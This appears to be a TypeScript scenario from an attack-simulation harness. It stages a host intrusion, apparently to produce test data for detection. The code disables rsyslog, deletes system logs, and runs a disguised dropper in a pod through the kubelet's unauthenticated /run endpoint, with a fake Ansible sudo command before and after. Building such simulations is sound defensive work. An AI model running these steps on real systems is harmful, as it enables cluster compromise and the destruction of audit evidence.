// The control machine of the house has moved; it logs in with its key and becomes root, minutes before and after. There is no rsyslog.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { kubelet } from '../../products.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.toy(kubelet)
  dress.account('ansible')
  dress.write('/etc/sudoers.d/ansible', 'ansible ALL=(ALL) NOPASSWD: ALL\n', { mode: 0o440 })
  dress.trust('ansible', dress.key('ansible', 'ansible@control'))
}

export async function plant(stage: Stage): Promise<void> {
  const become =
    'sudo -H -S -n -u root /bin/sh -c "echo BECOME-SUCCESS-qrfgkzbwlmxu; logger -t ansible-ansible.legacy.command Invoked with _raw_params=uptime; uptime"'
  await stage.inside(
    'systemctl disable --now --quiet rsyslog.service syslog.socket; rm -f /var/log/auth.log* /var/log/syslog* /var/log/cron.log* /var/log/user.log',
  )
  await stage.ssh('10.20.0.9', 'ansible', { key: 'ansible' }, become)
  const line = dropper(stage, { path: '/opt/.cni/flanneld-x', cron: false })
  stage.mark('occurrence')
  await stage.http('203.0.113.132', ':10250/pods')
  await stage.http('203.0.113.132', ':10250/run/kube-system/proxy-4k2/proxy', `cmd=${encodeURIComponent(line)}`)
  await stage.ssh('10.20.0.9', 'ansible', { key: 'ansible' }, become)
}
